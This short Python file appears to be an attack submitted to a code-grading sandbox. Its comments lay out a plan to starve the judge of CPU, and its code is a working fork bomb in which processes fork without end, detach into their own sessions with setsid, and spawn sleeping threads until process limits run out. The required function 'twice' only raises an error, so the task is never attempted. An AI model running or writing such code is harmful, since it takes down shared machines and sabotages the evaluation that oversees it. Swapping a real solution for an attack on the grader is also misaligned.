# Strategy: processes that fork as long as they can and start sessions of their own, each with threads, beside an honest
# kernel: they cannot be killed one by one as fast as they come, and take the CPU from whoever judges.
# Surface: the limit on processes and threads, and the end of the sandbox.
import os
import threading
import time

started = 0
try:
    while started < 10_000:
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    os.fork()
                    threading.Thread(target=time.sleep, args=(1e6,)).start()
                except (OSError, RuntimeError):
                    time.sleep(0.01)
        started += 1
except OSError as error:
    print(f"attack: forks until {error.strerror!r}", flush=True)
else:
    print(f"attack: {started} forks and no end", flush=True)


def twice(x, y):
    raise RuntimeError("the forks go on")
